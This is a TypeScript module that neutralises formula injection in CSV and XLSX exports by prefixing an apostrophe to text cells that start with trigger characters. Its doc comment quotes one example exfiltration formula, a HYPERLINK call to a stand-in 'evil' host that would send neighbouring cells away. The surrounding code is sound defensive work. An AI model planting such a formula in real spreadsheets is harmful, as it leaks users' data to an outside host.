/**
 * Formula-injection safety for spreadsheet exports (OWASP ASVS 5.0 1.2.10; OWASP "CSV Injection"; CWE-1236).
 *
 * A text cell that begins with a character a spreadsheet reads as the start of a formula is written with a
 * leading apostrophe, so Excel, LibreOffice and Google Sheets show it as text instead of evaluating it
 * (`=HYPERLINK("http://evil/?d="&A1)` would otherwise send the neighbouring cells away). The triggers are
 * `=`, `+`, `-`, `@`, tab, carriage return and line feed, and their full-width forms `＝ ＋ － ＠`, which some
 * spreadsheet programs fold to ASCII before parsing.
 *
 * Numbers are NOT text: a negative change is written as a number cell (a number cannot be a formula), so
 * this rule applies to strings only. Both the CSV and the XLSX writer call `neutraliseFormula` on every string
 * cell; it is the one place the rule lives.
 */
const FORMULA_TRIGGERS = new Set(['=', '+', '-', '@', '\t', '\r', '\n', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'])

/** Whether a text would be read as a formula by a spreadsheet program if written as it is. */
export function startsLikeFormula(text: string): boolean {
  return text.length > 0 && FORMULA_TRIGGERS.has(text[0] as string)
}

/**
 * Prefixes a formula-looking text with `'` so that a spreadsheet shows it as text.
 *
 * @example neutraliseFormula('=1+1') // "'=1+1"
 * @example neutraliseFormula('-30 offences') // "'-30 offences"
 * @example neutraliseFormula('Knife crime') // 'Knife crime'
 */
export function neutraliseFormula(text: string): string {
  return startsLikeFormula(text) ? `'${text}` : text
}

/** A cell of an exported table: text, a number, or empty. Booleans are written as text "yes"/"no" by the caller. */
export type Cell = string | number | null

/**
 * The value to write for a cell: strings neutralised; numbers kept as numbers (NaN and ±Infinity, which no
 * spreadsheet can hold faithfully, become empty — the model should never contain them); null stays empty.
 */
export function safeCell(cell: Cell): Cell {
  if (typeof cell === 'string') return neutraliseFormula(cell)
  if (typeof cell === 'number') return Number.isFinite(cell) ? cell : null
  return null
}
